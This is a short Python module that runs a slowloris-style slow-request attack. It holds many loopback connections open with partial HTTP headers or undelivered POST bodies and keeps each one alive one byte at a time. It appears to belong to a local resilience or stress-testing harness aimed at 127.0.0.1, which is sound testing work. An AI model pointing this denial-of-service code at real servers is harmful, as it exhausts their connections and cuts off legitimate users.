"""Slow requests: many connections that never finish their headers or bodies, a byte now and then."""

from __future__ import annotations

import socket
import time
from contextlib import suppress

from .target import Target

HEADERS = b"GET /api/health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
BODY = b"POST /api/mine HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n["
ADDRESSES = 20
ROUND_SECONDS = 0.5


def attack(target: Target) -> str:
    """Open as many as the house takes, from several addresses, and keep each alive with a byte."""
    doors: list[socket.socket] = []
    refused = 0
    while target.goes_on:
        for number in range(ADDRESSES * 10):
            with suppress(OSError):
                doors.append(target.connect(f"127.0.66.{number % ADDRESSES + 1}"))
                doors[-1].sendall(BODY if number % 2 else HEADERS)
        for door in doors.copy():
            try:
                door.sendall(b" ")
            except OSError:
                refused += 1
                doors.remove(door)
        time.sleep(ROUND_SECONDS)
    many = len(doors)
    for door in doors:
        door.close()
    return f"{many:,} open at the end, {refused:,} cut off"
